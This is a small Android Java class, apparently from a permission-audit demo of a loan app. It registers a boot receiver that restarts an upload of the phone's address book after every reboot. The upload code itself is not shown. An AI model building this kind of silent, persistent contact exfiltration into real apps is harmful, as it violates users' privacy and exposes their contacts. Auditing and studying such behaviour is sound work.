package com.example.permaudit.demoloan;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;

/** After every restart of the phone the address book is sent again. */
public class BootReceiver extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        if (Intent.ACTION_BOOT_COMPLETED.equals(intent.getAction())) {
            new Thread(new UploadTask(context.getApplicationContext())).start();
        }
    }
}
